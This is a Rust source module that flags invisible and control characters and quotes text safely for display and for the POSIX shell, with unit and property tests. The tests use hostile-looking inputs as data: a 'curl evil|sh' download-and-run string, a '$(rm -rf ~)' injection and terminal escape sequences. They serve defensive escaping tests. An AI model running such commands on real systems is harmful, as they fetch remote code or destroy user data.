//! Which characters may deceive a reader: control, invisible and bidirectional-override ones.
//!
//! One list for names (refused), for what the bridge injects (neutralised) and for what the command line
//! prints (made visible). It is Unicode's `Default_Ignorable_Code_Point` and `Bidi_Control`, the line and
//! paragraph separators, the interlinear annotation marks and the tag characters.

use alloc::borrow::Cow;
use alloc::string::String;
use core::fmt::Write as _;

/// True for a character that is not seen, or that changes how its neighbours are seen.
pub fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
        | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}'
        | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// True for a character that drives a terminal or deceives a reader.
pub fn is_unsafe(c: char) -> bool {
    c.is_control() || is_invisible(c)
}

/// `text` with every unsafe character but line feed and tab written as `\u{…}`: what is shown drives no
/// terminal, and what was hidden is seen. Text without any is borrowed as it is.
pub fn visible(text: &str) -> Cow<'_, str> {
    let hides = |c: char| is_unsafe(c) && c != '\n' && c != '\t';
    if !text.contains(hides) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if hides(c) {
            // Writing to a String cannot fail.
            let _ = write!(shown, "\\u{{{:x}}}", c as u32);
        } else {
            shown.push(c);
        }
    }
    Cow::Owned(shown)
}

/// `text` on one line and at most `limit` bytes of it, for notices and errors: made visible, line ends as blanks.
pub fn one_line(text: &str, limit: usize) -> String {
    let cut = &text[..text.floor_char_boundary(limit)];
    let mut line = String::from(visible(cut)).replace(['\n', '\t'], " ");
    if cut.len() < text.len() {
        line.push('…');
    }
    line
}

/// A name as it stands in a sentence of ours: one that could be taken for words of the sentence is put in quotes, and has none
/// inside that end them.
pub fn quoted(name: &str) -> Cow<'_, str> {
    if !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || "-_.@+/".contains(c)) {
        return Cow::Borrowed(name);
    }
    Cow::Owned(alloc::format!("\"{}\"", visible(name).replace('"', "'")))
}

/// `text` as one word of a POSIX shell, whatever stands in it: a name in a command that is to be typed is not to run
/// anything (POSIX.1-2017, XCU 2.2.2).
pub fn shell_word(text: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(alloc::format!("'{}'", text.replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_is_no_plain_word_is_quoted() {
        for plain in ["wss://a.example:4390", "--server", "a-b_c"] {
            assert_eq!(shell_word(plain), plain);
        }
        assert_eq!(shell_word("!x;curl evil|sh #"), "'!x;curl evil|sh #'");
        assert_eq!(shell_word("x'; $(rm -rf ~) `id`"), r"'x'\''; $(rm -rf ~) `id`'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn escape_sequences_and_overrides_are_made_visible() {
        assert_eq!(visible("plain\ttext\n"), "plain\ttext\n");
        assert_eq!(visible("\u{1b}[31mred\u{202e}"), "\\u{1b}[31mred\\u{202e}");
        assert_eq!(visible("\r\u{7}\u{9b}"), "\\u{d}\\u{7}\\u{9b}");
    }

    proptest! {
        #[test]
        fn no_name_passes_for_words_of_a_sentence(name in any::<String>()) {
            let shown = quoted(&name);
            let inside = shown.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
            match inside {
                Some(inside) => prop_assert!(!inside.contains(|c| c == '"' || (is_unsafe(c) && c != '\n' && c != '\t'))),
                None => prop_assert!(shown == name && !shown.contains([' ', ':', ',', ';', '"', '\n'])),
            }
        }

        #[test]
        fn one_line_is_one_line(text in any::<String>(), limit in 0..100_usize) {
            let line = one_line(&text, limit);
            prop_assert!(!line.contains(crate::text::is_unsafe));
        }
    }
}
